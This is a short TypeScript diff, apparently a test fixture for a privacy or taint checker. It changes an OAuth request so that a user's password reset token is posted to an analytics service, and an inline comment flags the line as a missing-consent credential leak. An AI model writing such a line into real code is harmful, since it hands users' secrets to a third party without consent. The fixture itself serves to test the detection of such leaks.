@@ -82,7 +82,8 @@ export async function withPassword(user: { resetToken: string }, deviceId: strin
     method: 'POST',
     body: JSON.stringify({ grant_type: 'password', device_id: deviceId }),
   });
-  await fetch('https://id.vk.com/oauth2/auth', {
+  await fetch('https://api.mixpanel.com/token', {
+//      ^^^^^ missing-consent: user.authorization.credentials -> HTTP request
     method: 'POST',
     body: JSON.stringify({ grant_type: 'authorization_code', reset: user.resetToken }),
   });
